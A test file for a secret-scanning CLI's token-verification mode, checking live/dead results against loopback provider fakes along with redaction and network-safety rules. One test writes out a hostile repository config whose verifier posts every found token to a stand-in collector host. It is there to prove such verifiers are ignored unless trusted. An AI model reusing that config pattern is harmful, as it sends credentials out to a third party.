/**
 * `scan --verify` end to end, through the built CLI, against loopback fakes of the providers
 * (TOKGUARD_ENDPOINTS). Also the safety rules that only the whole program can show: nothing is
 * sent without --verify or on the pre-commit path, a repository's own verifiers are ignored
 * unless trusted, the verify code is never loaded by a plain scan, no connection leaves
 * loopback, and provider answers never reach the report.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { FakeKeys } from '../helpers/fake-keys.js';
import { GitRepo } from '../helpers/git-repo.js';
import { tempDir } from '../helpers/cleanup.js';
import { tempTree } from '../helpers/tmp.js';
import { json, ProviderFake, startFakes, type ProviderFakeSpec } from '../servers/provider-fake.js';
import { github } from '../servers/providers/github.js';
import { gitlab } from '../servers/providers/gitlab.js';
import { slack } from '../servers/providers/slack.js';

const keys = new FakeKeys('scan-verify');
let gh: ProviderFake;
let gl: ProviderFake;
let sl: ProviderFake;
let endpoints: string;

beforeAll(async () => {
  const started = await startFakes([github, gitlab, slack]);
  [gh, gl, sl] = started.fakes as [ProviderFake, ProviderFake, ProviderFake];
  endpoints = started.env;
});
afterAll(async () => {
  await Promise.all([gh, gl, sl].map((f) => f.stop()));
});
beforeEach(() => {
  for (const f of [gh, gl, sl]) f.requests.length = 0;
});

interface JsonReport {
  verification?: { live: number; dead: number; unknown: number };
  findings: {
    ruleId: string;
    file: string;
    secret?: string;
    verification?: { status: string; identity?: string; scopes?: string[]; detail?: string; checkedAt: string };
  }[];
}

function leakyRepo(): { repo: GitRepo; ghp: string; glpat: string; xoxb: string } {
  const ghp = keys.github();
  const glpat = keys.gitlabPat();
  const xoxb = keys.slackBot();
  const repo = new GitRepo();
  repo.commit('Add deploy settings', {
    'deploy/.env': `GITHUB_TOKEN=${ghp}\nGITLAB_TOKEN=${glpat}\n`,
    'src/notify.py': `SLACK_TOKEN = "${xoxb}"\n`,
  });
  return { repo, ghp, glpat, xoxb };
}

describe('scan --verify', () => {
  it('reports a leaked GitHub PAT, GitLab PAT and Slack token live, with who owns them', async () => {
    const { repo, ghp, glpat, xoxb } = leakyRepo();
    gh.accept(ghp, { login: 'octo-dev', scopes: 'repo, gist' });
    gl.accept(glpat, { name: 'ci-deploy', user_id: 77, scopes: ['api', 'read_repository'] });
    sl.accept(xoxb, { team: 'Acme', user: 'deploybot', scopes: 'chat:write,channels:read' });

    const r = await runCli(['scan', '--verify', '-f', 'json'], {
      cwd: repo.dir,
      env: { ...repo.env, TOKGUARD_ENDPOINTS: endpoints },
    });
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain('TOKGUARD_ENDPOINTS is set');
    const report = JSON.parse(r.stdout) as JsonReport;
    const byRule = new Map(report.findings.map((f) => [f.ruleId, f.verification]));
    expect(byRule.get('github-pat-classic')).toMatchObject({
      status: 'live',
      identity: 'octo-dev',
      scopes: ['repo', 'gist'],
    });
    expect(byRule.get('gitlab-personal-access-token')).toMatchObject({
      status: 'live',
      identity: 'ci-deploy / 77',
      scopes: ['api', 'read_repository'],
    });
    expect(byRule.get('slack-bot-token')).toMatchObject({
      status: 'live',
      identity: 'Acme / deploybot',
      scopes: ['chat:write', 'channels:read'],
    });
    for (const v of byRule.values()) expect(Number.isNaN(Date.parse(v!.checkedAt))).toBe(false);
    expect(report.verification).toEqual({ live: 3, dead: 0, unknown: 0 });
    // Each provider got exactly its documented request, with its own token only.
    expect(gh.requests.map((q) => [q.route, q.credential])).toEqual([['GET /user', ghp]]);
    expect(gl.requests.map((q) => [q.route, q.credential])).toEqual([
      ['GET /api/v4/personal_access_tokens/self', glpat],
    ]);
    expect(sl.requests.map((q) => [q.route, q.credential])).toEqual([['POST /api/auth.test', xoxb]]);
    // The report stays redacted.
    for (const s of [ghp, glpat, xoxb]) expect(r.stdout + r.stderr).not.toContain(s);
  });

  it('shows the status in the text report and counts it in the summary', async () => {
    const { repo, ghp } = leakyRepo();
    gh.accept(ghp, { login: 'octo-dev', scopes: '' });
    const r = await runCli(['scan', '--verify'], {
      cwd: repo.dir,
      env: { ...repo.env, TOKGUARD_ENDPOINTS: endpoints },
    });
    expect(r.stdout).toMatch(/verified LIVE as octo-dev/);
    expect(r.stdout).toMatch(/verified dead \(HTTP 401/); // the GitLab fake does not know this token
    expect(r.stdout).toMatch(/verified dead \(HTTP 200, error=invalid_auth\)/);
    expect(r.stderr).toMatch(/Verified: 1 live, 2 dead, 0 unknown\./);
  });

  it('puts the status in SARIF result properties', async () => {
    const { repo, xoxb } = leakyRepo();
    sl.accept(xoxb, { team: 'Acme', user: 'bot' });
    const r = await runCli(['scan', '--verify', '-f', 'sarif'], {
      cwd: repo.dir,
      env: { ...repo.env, TOKGUARD_ENDPOINTS: endpoints },
    });
    const sarif = JSON.parse(r.stdout) as {
      runs: {
        results: { ruleId: string; message: { text: string }; properties: { verification?: { status: string } } }[];
      }[];
    };
    const slackResult = sarif.runs[0]!.results.find((x) => x.ruleId === 'slack-bot-token')!;
    expect(slackResult.properties.verification?.status).toBe('live');
    expect(slackResult.message.text).toContain('Verified live at the provider (Acme / bot)');
    const ghResult = sarif.runs[0]!.results.find((x) => x.ruleId === 'github-pat-classic')!;
    expect(ghResult.properties.verification?.status).toBe('dead');
  });

  it('--fail-on-live fails only when a key is live', async () => {
    const { repo, glpat } = leakyRepo();
    const env = { ...repo.env, TOKGUARD_ENDPOINTS: endpoints };
    const allDead = await runCli(['scan', '--verify', '--fail-on-live', '-q'], { cwd: repo.dir, env });
    expect(allDead.code, allDead.stderr).toBe(0);
    gl.accept(glpat, { name: 'ci' });
    const oneLive = await runCli(['scan', '--verify', '--fail-on-live', '-q'], { cwd: repo.dir, env });
    expect(oneLive.code).toBe(1);
    const without = await runCli(['scan', '--fail-on-live'], { cwd: repo.dir, env });
    expect(without.code).toBe(2);
    expect(without.stderr.trim()).toBe(
      'tokguard: --fail-on-live, --trust-repo-verifiers, --verify-timeout and --verify-max-time need --verify',
    );
  });

  it('checks each distinct secret once and records the answer on every finding that holds it', async () => {
    const ghp = keys.github();
    gh.accept(ghp, { login: 'octo-dev' });
    const dir = tempTree({ 'a.env': `GH=${ghp}\n`, 'b/c.sh': `export GITHUB_TOKEN=${ghp}\n`, 'd.txt': `${ghp}\n` });
    const r = await runCli(['scan', '.', '--verify', '-f', 'json'], {
      cwd: dir,
      env: { TOKGUARD_ENDPOINTS: endpoints },
    });
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.findings).toHaveLength(3);
    expect(report.findings.every((f) => f.verification?.status === 'live')).toBe(true);
    expect(gh.requests).toHaveLength(1);
  });

  it('verifies history findings', async () => {
    const { repo, ghp } = leakyRepo();
    repo.commit('Remove the token', { 'deploy/.env': 'GITHUB_TOKEN=${GITHUB_TOKEN}\n' });
    gh.accept(ghp, { login: 'octo-dev' });
    const r = await runCli(['scan', '--history', '--verify', '-f', 'json'], {
      cwd: repo.dir,
      env: { ...repo.env, TOKGUARD_ENDPOINTS: endpoints },
    });
    const f = (JSON.parse(r.stdout) as JsonReport).findings.find((x) => x.ruleId === 'github-pat-classic');
    expect(f?.verification).toMatchObject({ status: 'live', identity: 'octo-dev' });
  });
});

describe('verification safety', () => {
  it('sends nothing without --verify', async () => {
    const { repo, ghp } = leakyRepo();
    gh.accept(ghp);
    const r = await runCli(['scan', '-f', 'json'], {
      cwd: repo.dir,
      env: { ...repo.env, TOKGUARD_ENDPOINTS: endpoints },
    });
    expect(r.code).toBe(1);
    expect((JSON.parse(r.stdout) as JsonReport).findings.every((f) => f.verification === undefined)).toBe(true);
    expect(gh.requests.length + gl.requests.length + sl.requests.length).toBe(0);
  });

  it('never verifies on the pre-commit (--staged) path', async () => {
    const { repo } = leakyRepo();
    repo.write({ 'new.env': `TOKEN=${keys.github()}\n` });
    repo.git('add', '-A');
    const env = { ...repo.env, TOKGUARD_ENDPOINTS: endpoints };
    const refused = await runCli(['scan', '--staged', '--verify'], { cwd: repo.dir, env });
    expect(refused.code).toBe(2);
    expect(refused.stderr.trim()).toBe(
      'tokguard: --verify cannot be used with --staged: the pre-commit path never sends secrets anywhere',
    );
    const hook = await runCli(['scan', '--staged'], { cwd: repo.dir, env });
    expect(hook.code).toBe(1);
    expect(gh.requests.length + gl.requests.length + sl.requests.length).toBe(0);
  });

  it("ignores verifiers in the scanned repository's own config unless --trust-repo-verifiers", async () => {
    // A cloned repository whose config would send every "token" it finds to its own server.
    const evil: ProviderFakeSpec = {
      provider: 'collector',
      hosts: ['collector.example'],
      docs: 'https://collector.example/',
      routes: [
        {
          name: 'POST /collect',
          method: 'POST',
          path: '/collect',
          credential: (req) => (req.json as { t?: string } | undefined)?.t,
          live: () => json(200, {}),
          unauthorized: () => json(200, {}),
        },
      ],
    };
    const collector = await new ProviderFake(evil).start();
    try {
      const repo = new GitRepo();
      repo.commit('config', {
        '.tokguard.yaml': [
          'rules:',
          '  - id: any-token',
          '    name: Any token',
          '    severity: high',
          '    keywords: [token]',
          "    pattern: 'token=([A-Za-z0-9]{12,})'",
          '    verify:',
          '      provider: collector',
          '      request: { method: POST, url: "https://collector.example/collect", json: { t: "${secret}" } }',
          '      response: { live: { status: [200] }, dead: { status: [401] } }',
          '    examples: ["token=abcdefghijkl123"]',
          '',
        ].join('\n'),
        'local.env': 'token=Q2hhbmdlTWVQbGVhc2U1\n',
      });
      const env = { ...repo.env, TOKGUARD_ENDPOINTS: [endpoints, ...collector.endpoints()].join(',') };
      const r = await runCli(['scan', '--verify', '-f', 'json'], { cwd: repo.dir, env });
      expect(r.stderr).toContain("ignored the verifier of any-token: defined in the scanned repository's own config");
      expect(collector.requests).toHaveLength(0);
      const f = (JSON.parse(r.stdout) as JsonReport).findings.find((x) => x.ruleId === 'any-token');
      expect(f?.verification).toMatchObject({ status: 'unknown', detail: 'no verifier for rule any-token' });

      const trusted = await runCli(['scan', '--verify', '--trust-repo-verifiers', '-f', 'json'], {
        cwd: repo.dir,
        env,
      });
      expect(trusted.stderr).not.toContain('ignored the verifier');
      expect(collector.requests.map((q) => q.credential)).toEqual(['Q2hhbmdlTWVQbGVhc2U1']);
    } finally {
      await collector.stop();
    }
  });

  it('accepts only loopback targets in TOKGUARD_ENDPOINTS', async () => {
    const dir = tempTree({ 'a.env': `GH=${keys.github()}\n` });
    const r = await runCli(['scan', '.', '--verify'], {
      cwd: dir,
      env: { TOKGUARD_ENDPOINTS: 'api.github.com=https://203.0.113.7:443' },
    });
    expect(r.code).toBe(2);
    expect(r.stderr.trim()).toBe(
      'tokguard: TOKGUARD_ENDPOINTS: api.github.com: 203.0.113.7 is not a loopback address (only 127.0.0.1, ::1 and localhost are accepted)',
    );
  });

  it('contacts no host that TOKGUARD_ENDPOINTS does not map, and no connection leaves loopback', async () => {
    const dir = tempDir('tokguard-netlog-');
    const log = path.join(dir, 'connections.log');
    const hook = path.join(dir, 'netlog.mjs');
    // Records the destination of every TCP connection the CLI opens.
    writeFileSync(
      hook,
      `import net from 'node:net';\nimport { appendFileSync } from 'node:fs';\nconst orig = net.Socket.prototype.connect;\n` +
        `net.Socket.prototype.connect = function (...args) {\n  const o = typeof args[0] === 'object' && args[0] !== null ? (Array.isArray(args[0]) ? args[0][0] : args[0]) : { port: args[0], host: args[1] };\n` +
        `  appendFileSync(${JSON.stringify(log)}, String(o.host ?? o.path ?? 'localhost') + '\\n');\n  return orig.apply(this, args);\n};\n`,
    );
    mkdirSync(path.join(dir, 'scan'));
    const ghp = keys.github();
    gh.accept(ghp, { login: 'octo' });
    writeFileSync(
      path.join(dir, 'scan', 'keys.env'),
      `GITHUB_TOKEN=${ghp}\nSTRIPE_KEY=sk_live_${'4eC39HqLyjWDarjtT1zdp7dc'}\n`,
    );
    const r = await runCli(['scan', 'scan', '--verify', '-f', 'json'], {
      cwd: dir,
      env: { TOKGUARD_ENDPOINTS: gh.endpoints().join(','), NODE_OPTIONS: `--import=${hook}` },
    });
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.findings.find((f) => f.ruleId === 'github-pat-classic')?.verification?.status).toBe('live');
    const hosts = readFileSync(log, 'utf8').trim().split('\n');
    expect(hosts.length).toBeGreaterThan(0);
    for (const h of hosts) expect(['127.0.0.1', 'localhost', '::1']).toContain(h);
  });

  it('never puts a provider answer in the report beyond the named fields', async () => {
    const ghp = keys.github();
    const canary = 'CANARY-private-body-field-9c1f';
    gh.accept(ghp, { login: 'octo', name: canary });
    const dir = tempTree({ 'a.env': `GH=${ghp}\n` });
    const env = { TOKGUARD_ENDPOINTS: endpoints };
    const live = await runCli(['scan', '.', '--verify', '-f', 'json'], { cwd: dir, env });
    expect(live.stdout).toContain('"identity": "octo"');
    gh.fault({ kind: 'status', status: 500, json: { message: canary } });
    const failed = await runCli(['scan', '.', '--verify', '-f', 'json'], { cwd: dir, env });
    expect(failed.stdout).toContain('provider error (HTTP 500)');
    for (const out of [live, failed]) expect(out.stdout + out.stderr).not.toContain(canary);
  });
});

describe('module loading', () => {
  function moduleRecorder(): { env: Record<string, string>; loaded: () => string } {
    const dir = tempDir('tokguard-modlog-');
    const log = path.join(dir, 'modules.log');
    const hooks = path.join(dir, 'hooks.mjs');
    const loader = path.join(dir, 'loader.mjs');
    writeFileSync(
      hooks,
      `import { appendFileSync } from 'node:fs';\nexport async function load(url, context, next) {\n  appendFileSync(${JSON.stringify(log)}, url + '\\n');\n  return next(url, context);\n}\n`,
    );
    writeFileSync(loader, `import { register } from 'node:module';\nregister(${JSON.stringify(`file://${hooks}`)});\n`);
    return { env: { NODE_OPTIONS: `--import=${loader}` }, loaded: () => readFileSync(log, 'utf8') };
  }
  const VERIFY_CODE = /[\\/](verify-[\w-]+\.js|verify[\\/])/;

  it('a scan without --verify, and the pre-commit path, never load the verify code or data', async () => {
    const { repo } = leakyRepo();
    repo.write({ 'staged.env': `T=${keys.github()}\n` });
    repo.git('add', '-A');
    for (const args of [['scan'], ['scan', '--staged']]) {
      const rec = moduleRecorder();
      const r = await runCli(args, { cwd: repo.dir, env: { ...repo.env, ...rec.env } });
      expect(r.code).toBe(1);
      expect(rec.loaded()).toMatch(/main\.js/); // the recorder works
      expect(rec.loaded(), args.join(' ')).not.toMatch(VERIFY_CODE);
    }
    const rec = moduleRecorder();
    await runCli(['scan', '--verify'], {
      cwd: repo.dir,
      env: { ...repo.env, ...rec.env, TOKGUARD_ENDPOINTS: endpoints },
    });
    expect(rec.loaded()).toMatch(VERIFY_CODE);
  });
});
